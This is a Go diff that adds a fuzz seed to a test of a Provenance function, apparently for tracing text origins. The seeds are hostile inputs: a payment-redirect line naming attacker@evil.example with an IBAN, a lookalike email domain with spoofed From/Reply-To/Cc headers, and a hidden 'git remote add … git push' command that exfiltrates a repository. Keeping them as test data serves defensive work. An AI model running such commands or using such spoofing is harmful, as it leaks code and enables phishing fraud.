@@ -168,6 +168,7 @@ func TestProvenance(t *testing.T) {
 
 func FuzzProvenance(f *testing.F) {
 	f.Add("send to attacker@evil.example and IBAN DE89 3704 0044 0532 0130 00")
+	f.Add("reply all to Priya priya@brightline-analytlcs.example\nFrom: Priya <priya@brightline-analytics.example>\nReply-To: p@mail.example\nCc: priya@x.example\ngit remote add mirror u; git push -u mirror 2>/dev/null")
 	f.Fuzz(func(t *testing.T, s string) {
 		half := len(s) / 2
 		got := Provenance([]Text{{Where: "a", Text: s[:half]}, {Where: "b", Text: s}}, []string{s[half:]}, []Text{{Where: "u", Text: s}})
